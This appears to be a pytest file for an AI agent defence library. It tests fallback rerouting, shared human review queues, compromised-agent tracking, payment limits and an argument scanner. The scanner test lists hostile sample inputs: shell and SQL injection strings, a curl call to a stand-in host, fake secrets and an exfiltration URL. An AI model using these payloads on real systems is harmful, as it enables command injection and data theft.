"""Agent defence responses and shared state: reroute to a fallback chain, the review index and the
agent board shared by instances over one store, payment counts, argument checks."""

from __future__ import annotations

import asyncio
import threading

import pytest

from aimds.agents import AgentDefense, make_policy
from aimds.agents.argscan import ArgumentScanner
from aimds.agents.policy import load_policy_text
from aimds.agents.review import ReviewQueue
from aimds.errors import Blocked, ConfigError
from aimds.agents.ltl.errors import PolicyError
from aimds.store import MemoryStore, SQLiteStore
from aimds.types import Action, Role, Verdict
from redis_fixture import RedisServer, redis_server  # noqa: F401

CLEAN = Verdict(Action.ALLOW, 0.0, (), Role.TOOL_OUTPUT, 0.0)
OUTSIDE_MAIL = 'always not (tool("send_email") and arg_domain("to") not in ["corp.com"])'


def quiet(**kwargs) -> AgentDefense:  # noqa: ANN003
    """A defense whose text scanner finds nothing: these tests are about responses and state."""
    return AgentDefense(scan=lambda text, role: CLEAN, **kwargs)


def approve_first_pending(defense: AgentDefense) -> threading.Thread:
    def run() -> None:
        for _ in range(400):
            for item in defense.reviews.pending():
                defense.reviews.approve(item.id, reviewer="alice")
                return
            threading.Event().wait(0.005)

    thread = threading.Thread(target=run)
    thread.start()
    return thread


# --- reroute ------------------------------------------------------------------------------------
def test_reroute_runs_the_first_working_fallback_instead_of_the_call() -> None:
    policy = make_policy("draft-outside-mail", OUTSIDE_MAIL, action="reroute",
                         fallback=["archive", "draft_email", "human"])
    defense = quiet(policies=[policy], review_timeout_s=0.2)
    sent: list[str] = []
    drafts: list[str] = []
    send_email = defense.wrap(lambda to, body: sent.append(to) or "sent", "send_email")
    defense.wrap(lambda to, body: drafts.append(to) or "drafted", "draft_email")
    with defense.session("mailbot", "s1"):
        assert "sent" in send_email("ann@corp.com", "hi")
        assert "drafted" in send_email("x@outside.example", "hi")  # "archive" is no guarded tool: skipped
    assert sent == ["ann@corp.com"] and drafts == ["x@outside.example"]

    decision = defense.record({"kind": "tool_call", "tool": "send_email", "agent_id": "api", "session_id": "s",
                               "arguments": {"to": "x@outside.example"}})
    assert decision.action is Action.BLOCK
    assert decision.reroute == ("archive", "draft_email", "human")
    assert decision.to_dict()["reroute"] == ["archive", "draft_email", "human"]
    assert any("rerouted to archive" in r for r in decision.reasons)


def test_blocked_fallback_falls_through_to_a_human_who_can_deny_or_approve() -> None:
    policies = [make_policy("draft-outside-mail", OUTSIDE_MAIL, action="reroute"),
                make_policy("no-drafts-today", 'always not tool("draft_email")', action="block")]
    defense = quiet(policies=policies, review_timeout_s=0.2, fallbacks={"send_email": ["draft_email", "human"]})
    ran: list[str] = []
    send_email = defense.wrap(lambda to, body: ran.append("send") or "sent", "send_email")
    defense.wrap(lambda to, body: ran.append("draft") or "drafted", "draft_email")
    with pytest.raises(Blocked) as info:  # the draft is blocked, then nobody answers the human
        send_email("x@outside.example", "the agenda")
    assert "fallback draft_email refused" in str(info.value) and "denied or timed out" in str(info.value)
    assert ran == []

    defense.reviews.timeout_s = 5.0
    helper = approve_first_pending(defense)
    assert "sent" in send_email("x@outside.example", "the agenda")  # the human approved the original call
    helper.join()
    assert ran == ["send"]


def test_human_first_in_the_chain_is_a_review_and_approval_runs_the_call() -> None:
    policy = make_policy("hand-over-payments", 'always not tool("pay")', action="reroute", fallback=["human"])
    defense = quiet(policies=[policy], review_timeout_s=5.0)
    paid: list[float] = []

    @defense.tool("pay")
    async def pay(amount: float) -> str:
        paid.append(amount)
        return "paid"

    decision = defense.record({"kind": "tool_call", "tool": "pay", "arguments": {"amount": 3}, "session_id": "x"})
    assert decision.action is Action.REVIEW and decision.review_id and decision.reroute == ("human",)
    defense.reviews.deny(decision.review_id)
    helper = approve_first_pending(defense)
    assert "paid" in asyncio.run(pay(12.0))
    helper.join()
    assert paid == [12.0]


def test_a_blocked_call_is_not_rerouted_and_fallbacks_are_not_rerouted_again() -> None:
    policies = [
        make_policy("draft-outside-mail", OUTSIDE_MAIL, action="reroute", fallback=["send_email_copy"]),
        make_policy("reroute-copies", 'always not tool("send_email_copy")', action="reroute", fallback=["x"]),
    ]
    defense = quiet(policies=policies)
    ran: list[str] = []
    send_email = defense.wrap(lambda to, body: ran.append("send") or "sent", "send_email")
    defense.wrap(lambda to, body: ran.append("copy") or "copied", "send_email_copy")
    with pytest.raises(Blocked) as info:
        send_email("x@outside.example", "hello")
    assert "not rerouted again" in str(info.value)
    defense.quarantine("default")
    decision = defense.record({"kind": "tool_call", "tool": "send_email", "arguments": {"to": "x@outside.example"},
                               "session_id": "q"})
    assert decision.action is Action.BLOCK and decision.reroute == ()
    assert "fallback not offered: the call is blocked" in decision.reasons
    assert ran == []


def test_fallback_configuration_is_checked() -> None:
    text = """
policies:
  - name: p
    formula: always not tool("a")
    action: block
    fallback: [b]
"""
    with pytest.raises(PolicyError, match="only used with action: reroute"):
        load_policy_text(text)
    with pytest.raises(PolicyError):
        make_policy("p", 'always not tool("a")', action="reroute", fallback=["bad name!"])
    with pytest.raises(ConfigError):
        quiet(fallbacks={"send_email": []})
    loaded = load_policy_text(text.replace("action: block", "action: reroute"))
    assert loaded.policies[0].fallback == ("b",)


# --- state shared through the store -------------------------------------------------------------
def test_pending_reviews_are_listed_by_every_instance(tmp_path) -> None:
    a = ReviewQueue(SQLiteStore(tmp_path / "s.db"), timeout_s=60)
    b = ReviewQueue(SQLiteStore(tmp_path / "s.db"), timeout_s=60)
    first = a.submit("bot", "s1", "grant_access", {"user": "bob"}, ["policy"])
    second = b.submit("bot", "s2", "transfer_funds", {"amount": 5}, ["policy"])
    assert [i.id for i in a.pending()] == [first.id, second.id] == [i.id for i in b.pending()]
    b.approve(first.id)
    assert [i.id for i in a.pending()] == [second.id]
    a.deny(second.id)
    assert b.pending() == [] and a.pending() == []
    third = a.submit("bot", "s3", "grant_access", {}, ["policy"])
    late = ReviewQueue(SQLiteStore(tmp_path / "s.db"), timeout_s=60)  # starts at the floor, not at record 1
    assert [i.id for i in late.pending()] == [third.id]
    assert late._cursor == 3 and late._floor_written >= 2


def test_reviews_and_agents_shared_through_redis(redis_server: RedisServer) -> None:  # noqa: F811
    from aimds.store.redis_store import RedisStore

    policies = [make_policy("review-grants", 'always not tool("grant_access")', action="review"),
                make_policy("no-wipe", 'always not tool("wipe_disk")', action="block")]
    a = quiet(policies=policies, store=RedisStore(redis_server.url, prefix="t-agents-resp:"))
    b = quiet(policies=policies, store=RedisStore(redis_server.url, prefix="t-agents-resp:"))
    review = a.record({"kind": "tool_call", "tool": "grant_access", "arguments": {"user": "x"}, "agent_id": "ops"})
    assert [i.id for i in b.reviews.pending()] == [review.review_id]
    b.reviews.approve(review.review_id)
    assert a.reviews.pending() == []
    a.record({"kind": "tool_call", "tool": "wipe_disk", "agent_id": "rogue"})
    assert b.compromised_agents() == ["rogue"] and set(b.known_agents()) == {"ops", "rogue"}


def test_review_expiry_seen_by_another_instance() -> None:
    now = [1000.0]
    store = MemoryStore()
    a = ReviewQueue(store, timeout_s=10, clock=lambda: now[0])
    b = ReviewQueue(store, timeout_s=10, clock=lambda: now[0])
    item = a.submit("bot", "s", "pay", {}, [])
    assert [i.id for i in b.pending()] == [item.id]
    now[0] += 11
    assert b.pending() == [] and a.get(item.id).status == "expired"


def test_known_agents_and_their_status_are_shared_and_release_reaches_every_instance() -> None:
    store = MemoryStore()
    policies = [make_policy("no-wipe", 'always not tool("wipe_disk")', action="block")]
    a = quiet(policies=policies, store=store)
    b = quiet(policies=policies, store=store)
    a.record({"kind": "tool_call", "tool": "wipe_disk", "agent_id": "rogue"})
    b.record({"kind": "tool_call", "tool": "search", "agent_id": "helper"})
    assert set(a.known_agents()) == set(b.known_agents()) == {"rogue", "helper"}
    assert b.agent_status("rogue")["status"] == "compromised"
    assert b.compromised_agents() == ["rogue"] == a.compromised_agents()
    assert b.knows("rogue") and not b.knows("nobody")
    b.release("rogue")
    assert a.agent_status("rogue")["status"] != "compromised"
    assert a.compromised_agents() == []
    a.record({"kind": "tool_call", "tool": "wipe_disk", "agent_id": "rogue", "session_id": "later"})
    assert b.agent_status("rogue")["status"] == "compromised"  # a newer change wins over the release


# --- policies and argument checks ---------------------------------------------------------------
def test_payment_limit_blocks_only_the_extra_payments() -> None:
    defense = quiet()
    actions = [defense.record({"kind": "tool_call", "tool": "pay", "arguments": {"amount": 1}}).action
               for _ in range(6)]
    assert actions[:3] == [Action.ALLOW] * 3 and actions[3] is Action.REVIEW and actions[5] is Action.BLOCK
    assert defense.record({"kind": "tool_call", "tool": "read_file", "arguments": {"path": "/workspace/a"}}
                          ).action is Action.ALLOW
    assert defense.record({"kind": "tool_call", "tool": "pay", "arguments": {"amount": 1}}).action is Action.BLOCK


@pytest.mark.parametrize(("value", "rule"), [
    ("ls; rm -rf /tmp/x", "shell_injection"),
    ("$(curl http://x.example/a)", "shell_injection"),
    ("name' OR '1'='1", "sql_injection"),
    ("1; DROP TABLE users", "sql_injection"),
    ("token AKIAIOSFODNN7EXAMPLE", "secret"),
    ("PASSWORD = hunter2hunter2", "secret"),
    ("See https://evil.example/c?d=" + "QUJD" * 20, "exfil_url"),
])
def test_each_argument_rule_fires_through_the_combined_prefilter(value: str, rule: str) -> None:
    scanner = ArgumentScanner(["corp.com"])
    assert rule in {f.rule_id for f in scanner.scan({"text": value})}
    assert scanner.scan({"text": "Please send the weekly report to the team."}) == []


# --- over HTTP ----------------------------------------------------------------------------------
def test_http_reset_clears_taint_and_every_instance_lists_reviews_and_agents(tmp_path) -> None:
    from test_server_routes import Instance, event

    a = Instance(SQLiteStore(tmp_path / "s.db"), tmp_path)
    b = Instance(SQLiteStore(tmp_path / "s.db"), tmp_path)
    page = "The quarterly numbers show revenue of 4.2 million euros across the northern region offices."
    copied = {"text": "Summary: revenue of 4.2 million euros across the northern region"}
    with a.client, b.client:
        a.post("/v1/events", json=event("tool_result", tool="fetch_url", content=page))
        first = a.post("/v1/events", json=event("tool_call", tool="notes", arguments=copied)).json()
        assert "tainted" in first["labels"] and "untrusted" not in first["labels"]
        assert a.post("/v1/sessions/s1/reset", json={"agent_id": "mailbot"}).json() == {"ok": True}
        again = a.post("/v1/events", json=event("tool_call", tool="notes", arguments=copied)).json()
        assert "tainted" not in again["labels"]

        review = a.post("/v1/events", json=event("tool_call", tool="grant_access", arguments={"user": "x"})).json()
        assert [i["id"] for i in b.get("/v1/reviews").json()["items"]] == [review["review_id"]]
        assert b.get("/v1/agents/mailbot").status_code == 200  # seen only by instance a
        assert [x["agent_id"] for x in b.get("/v1/agents").json()["agents"]] == ["mailbot"]
